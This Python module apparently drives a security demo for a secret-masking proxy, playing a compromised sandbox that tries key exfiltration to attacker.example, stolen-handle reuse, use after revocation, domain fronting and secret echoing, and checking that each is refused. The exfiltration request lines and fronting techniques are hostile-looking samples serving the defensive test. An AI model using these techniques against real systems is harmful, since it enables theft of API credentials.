"""The second act: what somebody would try who has taken over the sandbox, and what comes of it.

An attack has failed when the daemon refused it for the right reason *and* the upstreams, all of which
listen, saw nothing of it.
"""

import json
import time
from collections.abc import Awaitable, Callable, Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from demo.daemon import OpenedSession
from demo.report import Report
from demo.sandbox import Sandbox
from demo.stage import Stage
from demo.upstreams.seen import fingerprint
from demo.zero_secrets import needles, search_bytes

CHAT = json.dumps({"model": "gpt-5", "messages": [{"role": "user", "content": "hello"}]})
REVOKED_WITHIN_MS = 250
"""Invariant I5. On a busy small machine one sample may take longer than its p99; so the demo
fails at four times that."""
_PATIENCE = 4
_WORDS = 1500
"""Of the stream to be cut: it would last half a minute."""


@dataclass(frozen=True, slots=True)
class Attempt:
    """One request by hand, and how it must end."""

    tried: str
    request: Mapping[str, str]
    reason: str | None
    """The Coatcheck-Reason; None: the connection is cut before anybody could answer."""


class Attacker:
    """A sandbox that was taken over."""

    def __init__(
        self,
        report: Report,
        stage: Stage,
        sandbox: Sandbox,
        session: OpenedSession,
        search: Callable[[], Awaitable[None]],
    ) -> None:
        self.report = report
        self.stage = stage
        self.sandbox = sandbox
        self.session = session
        self.search = search
        """Searches the sandbox for secrets, now."""

    async def answers(self, *requests: Mapping[str, str]) -> list[dict[str, Any]]:
        answers: list[dict[str, Any]] = await self.sandbox.run("attempts.py", requests)
        return answers

    async def refused(self, attempts: Sequence[Attempt]) -> None:
        """Make the attempts; show and check how each ended, and that no upstream saw any."""
        report, before, hints = self.report, len(self.stage.seen), set[str]()
        answers = await self.answers(*(attempt.request for attempt in attempts))
        for attempt, answer in zip(attempts, answers, strict=True):
            report.field("tried", attempt.tried)
            report.field("happened", _told(answer))
            hint = _error(answer).get("hint", "")
            if hint and hint not in hints:
                report.field("hint", hint)
                hints.add(hint)
            reason = answer.get("headers", {}).get("coatcheck-reason")
            report.check(
                reason == attempt.reason, f"expected {attempt.reason}, not {reason}: {attempt.tried}"
            )
        self.unseen(before)

    def unseen(self, before: int) -> None:
        saw = self.stage.seen[before:]
        self.report.field(
            "upstreams", "were listening, and saw nothing" if not saw else f"SAW {len(saw)} requests"
        )
        self.report.check(not saw, "nothing of the attack left")


async def exfiltrate(attacker: Attacker) -> None:
    handle = fingerprint(attacker.session.handles["openai"])
    await attacker.refused(
        [
            Attempt(
                f"GET https://attacker.example/?stolen=<handle {handle}>: a host that no rule allows",
                {"to": "attacker.example:443", "path": "/?stolen={OPENAI_API_KEY}"},
                "host_not_allowed",
            ),
            Attempt(
                f"GET https://docs.example/?note=<handle {handle}>: an allowed host, but not the handle's",
                {"to": "docs.example:443", "path": "/?note={OPENAI_API_KEY}"},
                "handle_wrong_host",
            ),
            Attempt(
                f"POST https://api.anthropic.com with the OpenAI handle {handle}: the wrong API",
                {
                    "to": "api.anthropic.com:443",
                    "method": "POST",
                    "path": "/v1/messages",
                    "authorization": "Bearer {OPENAI_API_KEY}",
                },
                "handle_wrong_host",
            ),
        ]
    )
    attacker.report.outcome("a handle goes nowhere else")


async def steal(victim: OpenedSession, thief: Attacker) -> None:
    """The thief has a sandbox and a session of its own, and the victim's string."""
    handle = victim.handles["openai"]
    await thief.refused(
        [
            Attempt(
                f"POST https://api.openai.com from another sandbox, with the first one's handle "
                f"{fingerprint(handle)}",
                _chat(f"Bearer {handle}"),
                "handle_stolen",
            )
        ]
    )
    thief.report.outcome("a stolen string is worth nothing, and its use is an alarm")


async def use_after_revocation(attacker: Attacker) -> None:
    """A handle is revoked between two requests; then the whole session in the middle of a stream."""
    report, stage, daemon, session = attacker.report, attacker.stage, attacker.stage.daemon, attacker.session
    request = _chat("Bearer {OPENAI_API_KEY}")
    (answer,) = await attacker.answers(request)
    handle = fingerprint(session.handles["openai"])
    report.field("before", f"the other sandbox's own handle {handle} works: {_told(answer)}")
    report.check(answer.get("status") == 200, "the handle worked before it was revoked")
    async with attacker.sandbox.running("open_stream.py", {"say": "word " * _WORDS}) as stream:
        await stream.answer()
        revoking = time.time()
        await daemon.revoke_handle(session.id, session.handle_ids["openai"])
        revoked = time.time()
        ended = await stream.answer()
    cut = 1000 * (ended["ended"] - revoked)
    when = f"{cut:.0f} ms after" if cut > 0 else "before"
    report.field(
        "revoked",
        f"by the operator, in the middle of a streamed answer. The control API said done after "
        f"{1000 * (revoked - revoking):.0f} ms; the stream was cut {when} that, at word {ended['words']} of "
        f"some {_WORDS}",
    )
    report.check(ended["how"] != "complete", "the open stream was cut")
    report.check(cut < _PATIENCE * REVOKED_WITHIN_MS, f"the stream was cut {cut:.0f} ms after the revocation")
    await attacker.refused(
        [Attempt("the same request again", request, "handle_revoked")],
    )
    await daemon.revoke_session(session.id)
    before = len(stage.seen)
    (answer,) = await attacker.answers(request | {"authorization": "Bearer {OPENAI_API_KEY}"})
    report.field("then", f"the whole session is revoked. Its sandbox: {_told(answer)}")
    report.check(answer.get("status", 0) != 200, "a revoked session has no way out")
    attacker.unseen(before)
    report.outcome("revoked is revoked, at once")


async def front(attacker: Attacker) -> None:
    """Domain fronting: what the policy looks at and what the upstream looks at are different names."""
    bearer = "Bearer {OPENAI_API_KEY}"
    await attacker.refused(
        [
            Attempt(
                "tunnel and TLS to api.openai.com, then `Host: attacker.example` inside",
                _chat(bearer) | {"host": "attacker.example"},
                "authority_mismatch",
            ),
            Attempt(
                "tunnel to api.openai.com, then TLS for attacker.example inside",
                _chat(bearer) | {"sni": "attacker.example"},
                None,
            ),
        ]
    )
    attacker.report.outcome("one connection, one name")


async def echo(attacker: Attacker) -> None:
    """internal.example is allowed and gets its secret, as it must. It sends back what it was sent."""
    report, stage = attacker.report, attacker.stage
    secret = stage.keys["internal"]
    before = len(stage.seen)
    ways = {
        "in its body": "/echo",
        "a byte a chunk": "/echo?encoding=split",
        "in Base64": "/echo?encoding=base64",
        "in JSON": "/echo?encoding=json",
        "in a header": "/echo?in=header",
        "in a redirect": "/echo?in=location",
    }
    requests = [
        {"to": "internal.example:443", "path": path, "authorization": "Bearer {INTERNAL_TOKEN}"}
        for path in ways.values()
    ]
    async with attacker.sandbox.running("attempts.py", requests) as program:
        answers = await program.answer()
        await attacker.search()  # while the echoes are in its memory
    seen = stage.seen[before:]
    report.field("tried", f"GET https://internal.example/echo: {len(ways)} ways to get the secret sent back")
    report.field("upstream", f"got secret {fingerprint(secret)}, genuine, {len(seen)} times, and echoed it")
    report.check(
        [one.genuine for one in seen] == ["internal"] * len(ways),
        "the echoing upstream really had the secret",
    )
    for way, answer in zip(ways, answers, strict=True):
        shown = _line_with_echo(answer)
        report.columns((10, 16, 68), ("received", way, shown))
        report.check(answer.get("status") in (200, 302), f"the echo {way} was answered")
        report.check(not _holds(answer, secret), f"the echo {way} holds no secret")
    report.outcome("every echo was masked on its way back")


async def every(report: Report, victim: Attacker, thief: Attacker) -> int:
    """All attacks on the proxy, in order. How many there were."""
    attacks = (
        ("Exfiltrate the handle to another host", exfiltrate(victim)),
        ("Use the handle from another sandbox", steal(victim.session, thief)),
        ("Use a handle after it was revoked", use_after_revocation(thief)),
        ("Say one host to the proxy and another to the upstream (SNI, Host)", front(victim)),
        ("Have an upstream echo the secret", echo(victim)),
    )
    for number, (title, attack) in enumerate(attacks, 1):
        report.headline(f"Attack {number}: {title}")
        await attack
    return len(attacks)


def _chat(authorization: str) -> dict[str, str]:
    return {
        "to": "api.openai.com:443",
        "method": "POST",
        "path": "/v1/chat/completions",
        "authorization": authorization,
        "body": CHAT,
    }


def _error(answer: Mapping[str, Any]) -> Mapping[str, str]:
    try:
        error: Mapping[str, str] = json.loads(answer["body"])["error"]
    except (KeyError, ValueError, TypeError):
        return {}
    return error


def _told(answer: Mapping[str, Any]) -> str:
    if not answer.get("status"):
        cut = "" if "error" not in answer else f" ({answer['error']})"
        return f"no answer: the connection was cut at {answer['stage']}{cut}"
    reason = answer["headers"].get("coatcheck-reason")
    if reason is None:
        return f"{answer['status']}, answered by the upstream"
    message = _error(answer).get("message", "").removeprefix("Coatcheck refused this request: ")
    where = " at CONNECT" if answer["stage"] == "the tunnel" else ""
    return f"{answer['status']} {reason}{where}: {message}"


def _line_with_echo(answer: Mapping[str, Any]) -> str:
    headers = answer.get("headers", {})
    for name in ("x-echo", "location"):
        if name in headers:
            return f"{name}: {headers[name]}"
    body = str(answer.get("body", ""))
    at = max(body.find("***") - 22, 0)
    return body[at : at + 68].replace("\n", " ").strip()


def _holds(answer: Mapping[str, Any], secret: str) -> bool:
    return bool(search_bytes(json.dumps(answer).encode(), needles({"it": secret})).hits)
